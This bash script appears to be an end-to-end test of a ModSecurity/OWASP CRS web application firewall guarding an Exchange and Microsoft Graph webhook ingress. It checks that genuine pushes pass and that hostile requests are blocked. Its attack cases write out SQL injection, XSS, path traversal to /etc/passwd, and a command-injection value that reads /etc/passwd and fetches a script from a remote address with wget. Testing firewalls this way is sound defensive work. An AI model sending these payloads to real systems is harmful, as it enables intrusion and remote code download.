#!/usr/bin/env bash
# End-to-end WAF test: Debian's nginx + ModSecurity + OWASP CRS, configured from the
# chart's Ingress (.dev/waf.sh), in front of a real webhook-ingress (started here on
# free ports, recording to topics of its own on the local Kafka). Genuine
# SendNotification pushes of every event kind, and Microsoft Graph's validation
# handshake, change and lifecycle notifications, must reach the ingress and be
# acknowledged (the Graph notifications recorded: the test tells the ingress about the
# corpus's Graph subscription first, as the manager would); attacks must be answered by
# the WAF (403/405/413/415/400/404) and never reach it (nginx's upstream log, and the
# ingress's own counters).
#   WAF_UPSTREAM=host:port  test in front of an ingress that is already running instead
#                           (its counters and what it records are then not checked)
# Prints one line per case and the figures; exits 1 on any failure.
set -euo pipefail
# shellcheck source=.dev/lib.sh
. "$(dirname "${BASH_SOURCE[0]}")/lib.sh"

export PATH="$("$ROOMS_ROOT/.dev/node.sh"):$PATH"
RUN="$(ensure_run_dir waf-test)"
FIXTURES="$ROOMS_ROOT/libs/ews/src/fixtures"
CORPUS="$ROOMS_ROOT/.dev/waf/corpus"
GRAPH="$CORPUS/graph"
# The Graph subscription every notification of $GRAPH belongs to.
GRAPH_SUBSCRIPTION=53ae1b97-2ee1-4f26-82d4-cca11f504874
GRAPH_MAILBOX=room-201@contoso.example
GRAPH_CLIENT_STATE=qxMRaQjKCNGVz_Wwk-wa9vCXJu_97cOgqKPgxJzbXAA
# Topics of the test's own, kept an hour: nothing of it reaches a dev pipeline's topics.
KAFKA_BROKER="127.0.0.1:$KAFKA_PORT"
NOTIFICATIONS_TOPIC=rooms-sync.waf-test.notifications.v1
SUBSCRIPTIONS_TOPIC=rooms-sync.waf-test.subscriptions.v1
WAF_ACCESS_LOG="$ROOMS_RUN/waf/logs/access.log"
rm -f "$RUN"/*

# counter NAME [LABEL_FILTER]: the sum of the ingress's counter over its series (matching the filter)
counter() {
  curl -fsS "$ops/metrics" | awk -v name="$1{" -v filter="${2:-}" \
    'index($0, name) == 1 && (filter == "" || index($0, filter)) { n += $NF } END { print n + 0 }'
}

free_port() { node -e 'const s=require("net").createServer().listen(0,"127.0.0.1",()=>{console.log(s.address().port);s.close()})'; }

ingress_pid=""
cleanup() {
  "$ROOMS_ROOT/.dev/waf.sh" stop || true
  if [ -n "$ingress_pid" ]; then kill "$ingress_pid" 2>/dev/null || true; fi
}
trap cleanup EXIT

"$ROOMS_ROOT/.dev/waf.sh" install
if [ -n "${WAF_UPSTREAM:-}" ]; then
  upstream="$WAF_UPSTREAM" ops=""
else
  http_port=$(free_port) ops_port=$(free_port)
  (cd "$ROOMS_ROOT" && HttpPort=$http_port OpsPort=$ops_port ROOMS_APPSETTINGS_PATH='' KafkaBrokers=$KAFKA_BROKER \
    NotificationsTopic=$NOTIFICATIONS_TOPIC SubscriptionsTopic=$SUBSCRIPTIONS_TOPIC KafkaTopicRetentionMs=3600000 \
    exec node services/webhook-ingress/src/main.ts >"$RUN/ingress.log" 2>&1) &
  ingress_pid=$!
  ops="http://127.0.0.1:$ops_port"
  for _ in $(seq 1 100); do curl -fsS -o /dev/null "$ops/readyz" 2>/dev/null && break; sleep 0.2; done
  curl -fsS -o /dev/null "$ops/readyz" || die "webhook-ingress did not become ready; see $RUN/ingress.log"
  upstream="127.0.0.1:$http_port"

  # The ingress learns Graph subscriptions from the subscriptions topic, asynchronously: write
  # the corpus's one, then post a genuine lifecycle notification straight to the ingress (not
  # through the WAF) until it is recorded. The counters checked at the end start from here.
  (cd "$ROOMS_ROOT" && node .dev/waf/graph-subscription.mjs "$KAFKA_BROKER" "$SUBSCRIPTIONS_TOPIC" \
    "$GRAPH_SUBSCRIPTION" "$GRAPH_MAILBOX" "$GRAPH_CLIENT_STATE") >"$RUN/graph-subscription.log" 2>&1 \
    || die "could not write the Graph subscription to $SUBSCRIPTIONS_TOPIC; see $RUN/graph-subscription.log"
  for _ in $(seq 1 100); do
    curl -sS -o /dev/null -X POST -H 'Content-Type: application/json' --data-binary "@$GRAPH/lifecycle-missed.json" \
      "http://$upstream/api/webhooks/graph/lifecycle" || true
    [ "$(counter rooms_ingress_graph_notifications_total 'outcome="recorded"')" -ge 1 ] && break
    sleep 0.2
  done
  [ "$(counter rooms_ingress_graph_notifications_total 'outcome="recorded"')" -ge 1 ] \
    || die "the ingress did not learn the Graph subscription from $SUBSCRIPTIONS_TOPIC; see $RUN/ingress.log"
  baseline_requests=$(counter rooms_ingress_requests_total)
  baseline_graph=$(counter rooms_ingress_graph_notifications_total)
fi
listen="127.0.0.1:$(free_port)"
"$ROOMS_ROOT/.dev/waf.sh" stop
WAF_LISTEN="$listen" WAF_UPSTREAM="$upstream" "$ROOMS_ROOT/.dev/waf.sh" start
paranoia=$(sed -n 's/.*setvar:tx.paranoia_level=\([0-9]\).*/\1/p' "$ROOMS_ROOT/charts/rooms-sync/files/waf/rooms-sync-waf.conf")
threshold=$(sed -n 's/.*setvar:tx.inbound_anomaly_score_threshold=\([0-9]*\).*/\1/p' "$ROOMS_ROOT/charts/rooms-sync/files/waf/rooms-sync-waf.conf")
base="http://$listen"

# send CASE METHOD PATH CONTENT_TYPE BODY_FILE|-  -> prints the HTTP status
send() {
  local name=$1 method=$2 path=$3 ctype=$4 body=$5 args=()
  [ "$body" = - ] || args+=(--data-binary "@$body")
  [ -z "$ctype" ] || args+=(-H "Content-Type: $ctype")
  curl -s -o /dev/null -w '%{http_code}' --path-as-is -X "$method" -H "X-Waf-Test-Case: $name" \
    -H 'User-Agent: ExchangeServicesClient/15.20.8000.000' "${args[@]}" "$base$path" || echo 000
}

# reached CASE: how many requests of that case nginx passed to the upstream
reached() {
  grep -F "\"case\":\"$1\"" "$WAF_ACCESS_LOG" | grep -vcF '"upstream":""' || true
}

XML='text/xml; charset=utf-8'
genuine_total=0 genuine_ok=0 attack_total=0 attack_ok=0 failures=0
genuine() { # genuine CASE METHOD PATH CTYPE BODY
  local status
  genuine_total=$((genuine_total + 1))
  status=$(send "$@")
  sleep 0.05
  if [[ "$status" == 2* ]] && [ "$(reached "$1")" -ge 1 ]; then
    genuine_ok=$((genuine_ok + 1)); printf 'pass    %-44s %s -> upstream\n' "$1" "$status"
  else
    failures=$((failures + 1)); printf 'FAIL    %-44s %s (genuine push blocked or not forwarded)\n' "$1" "$status"
  fi
}
attack() { # attack CASE EXPECTED_STATUSES METHOD PATH CTYPE BODY
  local name=$1 expected=$2 status
  shift 2
  attack_total=$((attack_total + 1))
  status=$(send "$name" "$@")
  sleep 0.05
  if [[ " $expected " == *" $status "* ]] && [ "$(reached "$name")" -eq 0 ]; then
    attack_ok=$((attack_ok + 1)); printf 'stopped %-44s %s at the WAF\n' "$name" "$status"
  else
    failures=$((failures + 1)); printf 'FAIL    %-44s %s (expected %s, upstream saw %s)\n' "$name" "$status" "$expected" "$(reached "$name")"
  fi
}

# --- genuine pushes: the ews fixtures (captured-like) and one per event kind ----------------
for f in "$FIXTURES"/*.xml "$CORPUS"/genuine/*.xml; do
  genuine "genuine/$(basename "$f" .xml)" POST /api/webhooks/exchange "$XML" "$f"
done
genuine "genuine/legacy-endpoint-heartbeat" POST '/WebServices/SyncNotification.svc?default' "$XML" "$FIXTURES/status-heartbeat.xml"
genuine "genuine/healthz" GET /healthz "" -

# --- genuine Graph traffic: the validation handshake on both URLs, exactly as Graph sends it (a
# POST, text/plain, no body, the token form-encoded: "+" for spaces, "%3a" for colons), whose
# answer must be the decoded token as text/plain; change notifications and lifecycle notifications
JSON='application/json; charset=utf-8'
handshake() { # handshake CASE PATH
  local name=$1 path=$2 out="$RUN/${1//\//-}" token status ctype body
  token="Validation: Testing client application reachability for subscription Request-Id: $(cat /proc/sys/kernel/random/uuid)"
  genuine_total=$((genuine_total + 1))
  status=$(curl -s -o "$out.body" -D "$out.headers" -w '%{http_code}' -X POST -H "X-Waf-Test-Case: $name" \
    -H 'Content-Type: text/plain; charset=utf-8' --data-binary '' \
    "$base$path?validationToken=$(sed -e 's/ /+/g' -e 's/:/%3a/g' <<<"$token")" || echo 000)
  ctype=$(sed -n 's/^[Cc]ontent-[Tt]ype: *\([^;\r]*\).*/\1/p' "$out.headers")
  body=$(cat "$out.body")
  sleep 0.05
  if [ "$status" = 200 ] && [ "$ctype" = text/plain ] && [ "$body" = "$token" ] && [ "$(reached "$name")" -ge 1 ]; then
    genuine_ok=$((genuine_ok + 1)); printf 'pass    %-44s %s -> upstream, token echoed as text/plain\n' "$name" "$status"
  else
    failures=$((failures + 1)); printf 'FAIL    %-44s %s %s "%s" (expected 200 text/plain with the token)\n' "$name" "$status" "$ctype" "${body:0:80}"
  fi
}
handshake "graph/validation-handshake" /api/webhooks/graph
handshake "graph/validation-handshake-lifecycle" /api/webhooks/graph/lifecycle
graph_items=0
for f in "$GRAPH"/change-*.json; do
  genuine "graph/$(basename "$f" .json)" POST /api/webhooks/graph "$JSON" "$f"
  graph_items=$((graph_items + $(grep -c '"subscriptionId"' "$f")))
done
for f in "$GRAPH"/lifecycle-*.json; do
  genuine "graph/$(basename "$f" .json)" POST /api/webhooks/graph/lifecycle "$JSON" "$f"
  graph_items=$((graph_items + $(grep -c '"subscriptionId"' "$f")))
done

# --- attacks -------------------------------------------------------------------------------------
mk() { # mk NAME SED_EXPR: a genuine push with one value replaced
  sed "$2" "$CORPUS/genuine/02-created-event.xml" >"$RUN/$1.xml"
  echo "$RUN/$1.xml"
}
sub='s|<t:SubscriptionId>[^<]*</t:SubscriptionId>|<t:SubscriptionId>VALUE</t:SubscriptionId>|'
attack sqli-in-text "403" POST /api/webhooks/exchange "$XML" \
  "$(mk sqli-in-text "${sub/VALUE/1\' UNION SELECT password FROM users WHERE \'1\'=\'1}")"
attack sqli-in-attribute "403" POST /api/webhooks/exchange "$XML" \
  "$(mk sqli-in-attribute 's|<t:ItemId Id="[^"]*"|<t:ItemId Id="x\x27 OR 1=1; DROP TABLE reservations; --"|')"
attack xss-in-text "403" POST /api/webhooks/exchange "$XML" \
  "$(mk xss-in-text "${sub/VALUE/\&lt;script\&gt;alert(document.cookie)\&lt;/script\&gt;}")"
attack xss-in-attribute "403" POST /api/webhooks/exchange "$XML" \
  "$(mk xss-in-attribute 's|ChangeKey="DwAAA[^"]*"|ChangeKey="\&quot;\&gt;\&lt;svg onload=alert(1)\&gt;"|')"
attack command-injection-in-text "403" POST /api/webhooks/exchange "$XML" \
  "$(mk command-injection-in-text "${sub/VALUE/x; cat /etc/passwd; wget http://203.0.113.7/x.sh}")"
for h in xxe-external-entity billion-laughs php-processing-instruction stylesheet-processing-instruction; do
  attack "$h" "403" POST /api/webhooks/exchange "$XML" "$FIXTURES/hostile/$h.xml"
done
attack xxe-in-legacy-endpoint "403" POST '/WebServices/SyncNotification.svc?default' "$XML" "$FIXTURES/hostile/xxe-external-entity.xml"
attack malformed-xml "400" POST /api/webhooks/exchange "$XML" "$FIXTURES/hostile/truncated.xml"
attack path-traversal-in-path "400 403 404" GET '/api/webhooks/exchange/../../../../etc/passwd' "" -
attack path-traversal-encoded "400 403 404" GET '/healthz/..%2f..%2f..%2fetc%2fpasswd' "" -
attack path-traversal-in-query "403" POST '/api/webhooks/exchange?file=../../../../etc/passwd' "$XML" "$CORPUS/genuine/01-status-heartbeat.xml"
attack path-traversal-healthz-query "403" GET '/healthz?x=..%2f..%2f..%2f..%2fetc%2fpasswd' "" -
attack wrong-method-get "405" GET /api/webhooks/exchange "" -
attack wrong-method-put "405" PUT /api/webhooks/exchange "$XML" "$CORPUS/genuine/01-status-heartbeat.xml"
attack wrong-method-delete "405" DELETE /api/webhooks/exchange "" -
attack wrong-method-post-healthz "405" POST /healthz "$XML" "$CORPUS/genuine/01-status-heartbeat.xml"
head -c 2097152 /dev/zero | tr '\0' 'A' | sed '1s|^|<?xml version="1.0"?><x>|' >"$RUN/oversize.xml"
echo '</x>' >>"$RUN/oversize.xml"
attack oversize-body-2MiB "413" POST /api/webhooks/exchange "$XML" "$RUN/oversize.xml"
printf 'a=1&b=%%27%%20OR%%201%%3D1--' >"$RUN/form.txt"
attack wrong-content-type-form "415" POST /api/webhooks/exchange "application/x-www-form-urlencoded" "$RUN/form.txt"
attack metrics-not-exposed "404" GET /metrics "" -

# --- attacks on the Graph callbacks ---------------------------------------------------------------
mkjson() { # mkjson NAME FILE SED_EXPR: a genuine Graph notification with one value replaced
  sed "$3" "$GRAPH/$2.json" >"$RUN/$1.json"
  cmp -s "$GRAPH/$2.json" "$RUN/$1.json" && die "mkjson $1: '$3' changed nothing in $2.json"
  echo "$RUN/$1.json"
}
attack graph-sqli-in-json-string "403" POST /api/webhooks/graph "$JSON" \
  "$(mkjson graph-sqli-in-json-string change-created 's|"id": "[^"]*"|"id": "x\x27 OR 1=1; DROP TABLE reservations; --"|')"
attack graph-sqli-in-lifecycle-event "403" POST /api/webhooks/graph/lifecycle "$JSON" \
  "$(mkjson graph-sqli-in-lifecycle-event lifecycle-missed "s|\"missed\"|\"missed' UNION SELECT password FROM users WHERE '1'='1\"|")"
attack graph-xss-in-json-string "403" POST /api/webhooks/graph "$JSON" \
  "$(mkjson graph-xss-in-json-string change-created 's|"clientState": "[^"]*"|"clientState": "<script>alert(document.cookie)</script>"|')"
attack graph-command-injection-in-json "403" POST /api/webhooks/graph "$JSON" \
  "$(mkjson graph-command-injection-in-json change-created 's|"resource": "[^"]*"|"resource": "x; cat /etc/passwd; wget http://203.0.113.7/x.sh"|')"
# handshakes as Graph sends them (an empty body, Content-Length: 0) with a hostile or overlong token
: >"$RUN/empty"
attack graph-xss-in-validation-token "403" POST \
  '/api/webhooks/graph?validationToken=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E' "text/plain; charset=utf-8" "$RUN/empty"
attack graph-xss-in-validation-token-lifecycle "403" POST \
  '/api/webhooks/graph/lifecycle?validationToken=%22%3E%3Csvg%20onload%3Dalert(1)%3E' "text/plain; charset=utf-8" "$RUN/empty"
attack graph-validation-token-too-long "400" POST \
  "/api/webhooks/graph?validationToken=Validation%3a+Testing+$(head -c 1100 /dev/zero | tr '\0' 'A')" "text/plain; charset=utf-8" "$RUN/empty"
attack graph-notification-as-text-plain "415" POST /api/webhooks/graph "text/plain; charset=utf-8" "$GRAPH/change-created.json"
attack graph-notification-as-xml "415" POST /api/webhooks/graph/lifecycle "$XML" "$GRAPH/lifecycle-missed.json"
attack graph-notification-as-form "415" POST /api/webhooks/graph "application/x-www-form-urlencoded" "$RUN/form.txt"
# validationToken is matched by its exact name, as the ingress reads it: a look-alike is a notification
attack graph-lookalike-token-name "415" POST '/api/webhooks/graph?ValidationToken=x' "text/plain" "$GRAPH/change-created.json"
head -c 300 "$GRAPH/change-batch.json" >"$RUN/graph-truncated.json"
attack graph-malformed-json "400" POST /api/webhooks/graph "$JSON" "$RUN/graph-truncated.json"
attack graph-malformed-json-lifecycle "400" POST /api/webhooks/graph/lifecycle "$JSON" "$RUN/graph-truncated.json"
attack graph-wrong-method-get "405" GET /api/webhooks/graph "" -
attack graph-wrong-method-get-handshake "405" GET '/api/webhooks/graph?validationToken=Validation%3a+Testing' "" -
attack graph-wrong-method-put "405" PUT /api/webhooks/graph/lifecycle "$JSON" "$GRAPH/lifecycle-missed.json"
attack graph-wrong-method-delete "405" DELETE /api/webhooks/graph "" -
{ printf '{"value": [{"subscriptionId": "%s", "clientState": "' "$GRAPH_SUBSCRIPTION"
  head -c 2097152 /dev/zero | tr '\0' 'A'
  printf '"}]}'; } >"$RUN/graph-oversize.json"
attack graph-oversize-body-2MiB "413" POST /api/webhooks/graph "$JSON" "$RUN/graph-oversize.json"

# The ingress's own counts (from the baseline taken once it knew the Graph subscription): every
# webhook request it saw was a genuine one, none refused, and every genuine Graph notification recorded.
extra_ok=0
if [ -n "$ops" ]; then
  seen=$(($(counter rooms_ingress_requests_total) - baseline_requests))
  refused=$(counter rooms_ingress_refusals_total)
  webhook_genuine=$((genuine_total - 1)) # all but GET /healthz
  if [ "$seen" -eq "$webhook_genuine" ] && [ "$refused" -eq 0 ]; then
    printf 'pass    %-44s %s\n' "ingress saw only the genuine requests" "$seen requests, $refused refused"
    extra_ok=$((extra_ok + 1))
  else
    failures=$((failures + 1)); printf 'FAIL    ingress saw %s webhook requests (%s refused), expected %s genuine and 0 refused\n' "$seen" "$refused" "$webhook_genuine"
  fi
  graph_seen=$(($(counter rooms_ingress_graph_notifications_total) - baseline_graph))
  graph_recorded=$(($(counter rooms_ingress_graph_notifications_total 'outcome="recorded"') - baseline_graph))
  if [ "$graph_recorded" -eq "$graph_items" ] && [ "$graph_seen" -eq "$graph_items" ]; then
    printf 'pass    %-44s %s\n' "ingress recorded every Graph notification" "$graph_recorded of $graph_items"
    extra_ok=$((extra_ok + 1))
  else
    failures=$((failures + 1)); printf 'FAIL    ingress recorded %s of %s Graph notifications (%s counted in all; see %s/metrics)\n' "$graph_recorded" "$graph_items" "$graph_seen" "$ops"
  fi
fi

echo "WAF (CRS 3.3 via Debian's nginx + libmodsecurity 3, paranoia level ${paranoia:-?}, anomaly threshold ${threshold:-?}):" \
  "genuine passed $genuine_ok/$genuine_total, attacks stopped $attack_ok/$attack_total"
echo "waf-test: $((genuine_ok + attack_ok + extra_ok)) passed, $failures failed"
[ "$failures" -eq 0 ]
